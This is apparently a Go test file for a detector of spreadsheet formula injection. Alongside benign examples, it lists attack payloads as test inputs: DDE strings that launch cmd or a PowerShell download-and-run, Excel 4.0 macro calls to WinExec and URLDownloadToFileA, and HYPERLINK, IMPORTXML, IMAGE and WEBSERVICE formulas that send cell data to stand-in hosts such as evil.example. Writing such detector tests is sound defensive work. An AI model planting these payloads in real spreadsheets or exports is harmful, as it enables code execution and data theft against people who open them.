package code

import (
	"strings"
	"testing"
)

// TestSpreadsheetInjection: formula cells (CWE-1236) that act outside the sheet when a CSV
// or a pasted table is opened, in the forms payload lists use: DDE with every formula
// prefix, Excel 4.0 macro calls, and network functions that carry the sheet's cells.
func TestSpreadsheetInjection(t *testing.T) {
	s := mustNew(t, Options{})
	cases := []struct{ name, text, kind string }{
		{"dde equals", "=cmd|' /C calc'!A0", "spreadsheet:dde"},
		{"dde in csv row", "date,label,amount\n2024-05-01,taxi,12.50\n2024-05-02,=cmd|' /C notepad'!'A1',0", "spreadsheet:dde"},
		{"dde plus", "+cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", "spreadsheet:dde"},
		{"dde minus arithmetic", "-2+3+cmd|' /C calc'!A0", "spreadsheet:dde"},
		{"dde at sum", "@SUM(1+9)*cmd|' /C calc'!A0", "spreadsheet:dde"},
		{"dde msexcel", `=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''`, "spreadsheet:dde"},
		{"dde quoted csv field", `name,note` + "\n" + `"Bob","=cmd|' /C calc'!A0"`, "spreadsheet:dde"},
		{"dde spaced", "Label: =cmd |' /C calc'!A0", "spreadsheet:dde"},
		{"dde function", `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`, "spreadsheet:dde"},
		{"ddeauto field", `{DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}`, "spreadsheet:dde"},
		{"xlm exec", `=EXEC("calc.exe")`, "spreadsheet:macro"},
		{"xlm call", `=CALL("Kernel32","WinExec","JCJ","calc",0)`, "spreadsheet:macro"},
		{"xlm register in table", `| A | B |` + "\n" + `| 1 | =REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","x") |`, "spreadsheet:macro"},
		{"hyperlink two cells", `=HYPERLINK("https://x.example/?d="&A2&B2,"Open")`, "spreadsheet:exfil"},
		{"hyperlink csv cell", "name,email,notes\nAda,ada@example.com,\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2&C2,\"\"Details\"\")\"", "spreadsheet:exfil"},
		{"importxml concat range", `=IMPORTXML(CONCAT("https://x.example/?q=",A1:C9),"//a")`, "spreadsheet:exfil"},
		{"importdata textjoin", `=IMPORTDATA("https://collect.example/log?v="&TEXTJOIN(",",TRUE,A:A))`, "spreadsheet:exfil"},
		{"image two refs", `=IMAGE("https://t.example/p.png?u="&$A$2&"&k="&$D$2)`, "spreadsheet:exfil"},
		{"plus hyperlink", `+HYPERLINK("http://x.example/?"&A1&B1;"x")`, "spreadsheet:exfil"},
		{"webservice", "Status\n=WEBSERVICE(\"https://x.example/s?\"&CONCATENATE(A2,B2,C2))", "spreadsheet:exfil"},
		{"importrange key cells", "`=IMPORTXML(\"https://x.example/\"&A1&\"/\"&B7, \"//p\")`", "spreadsheet:exfil"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs := scan(t, s, c.text)
			for _, f := range fs {
				if f.Kind == c.kind {
					return
				}
			}
			t.Fatalf("want %s, got %v", c.kind, kinds(fs))
		})
	}
}

// TestSpreadsheetBenign: CSV, tables and formulas of everyday answers: numbers and negative
// values, phone numbers and addresses that start with '+' or '@', list items, ordinary
// functions, and links or imports with a fixed URL or one looked-up value.
func TestSpreadsheetBenign(t *testing.T) {
	s := mustNew(t, Options{})
	for _, text := range []string{
		"date,label,amount\n2024-05-01,taxi,12.50\n2024-05-02,refund,-5\n2024-05-03,hotel,210",
		"item;delta\napples;-5\npears;+3\nplums;-0.25",
		"name,phone,email\nAda,+44 20 7946 0958,+ada@example.com\nBob,+1-555-0100,bob+news@example.com",
		"handle,followers\n@aisec,1200\n@golang,250000",
		"| item | change |\n|------|-------:|\n| rent | -1200 |\n| pay | +3100 |\n| total | =SUM(B2:B3) |",
		"=SUM(A1:A10)",
		"=VLOOKUP(A2,Sheet2!A:B,2,FALSE)",
		"=IF(B2>0,\"profit\",\"loss\")",
		"Use =AVERAGE(B2:B31) for the monthly mean and =B2-C2 for the difference.",
		`=HYPERLINK("https://example.com/docs","Documentation")`,
		`=HYPERLINK("https://www.google.com/search?q="&A2,"Search")`,
		`=IMPORTXML("https://en.wikipedia.org/wiki/Go_(programming_language)","//h1")`,
		`=IMPORTXML(A2,"//title")`,
		`=IMAGE("https://example.com/logo.png")`,
		`=IMPORTRANGE("https://docs.google.com/spreadsheets/d/abc123","Sheet1!A1:C10")`,
		"- HYPERLINK(url, label) makes a clickable link\n- IMAGE(url) shows a picture in a cell",
		"In Excel, =HYPERLINK(A2, B2) turns the address in A2 into a link labelled with B2.",
		"The pipe in `ls|'grep'` is unusual; write `ls | grep x` instead.",
		"echo 'a' | tr 'a' 'b'!",
		"subprocess.call(\"ls\", shell=True)",
		"x = exec(\"print(1)\")",
		"result =CALL(\"x\") is not valid Python",
		"os.system('cmd /c dir')",
		"Revenue -5% | Costs +3% | Margin =flat",
		"$ echo \"=1+2\" > cell.txt",
	} {
		if fs := scan(t, s, text); len(fs) != 0 {
			t.Errorf("%q: %v %+v", text, kinds(fs), fs[0])
		}
	}
	// A cell whose URL carries one looked-up value, or a fixed URL, is reported at lower
	// thresholds only if some rule scores it; none does.
	if fs := scan(t, mustNew(t, Options{Disable: []string{"spreadsheet"}}), "=cmd|' /C calc'!A0"); len(fs) != 0 {
		t.Errorf("disabled family reported: %v", kinds(fs))
	}
	if !strings.Contains(strings.Join(kinds(scan(t, s, "=cmd|' /C calc'!A0")), ","), "spreadsheet:dde") {
		t.Error("DDE not reported")
	}
}
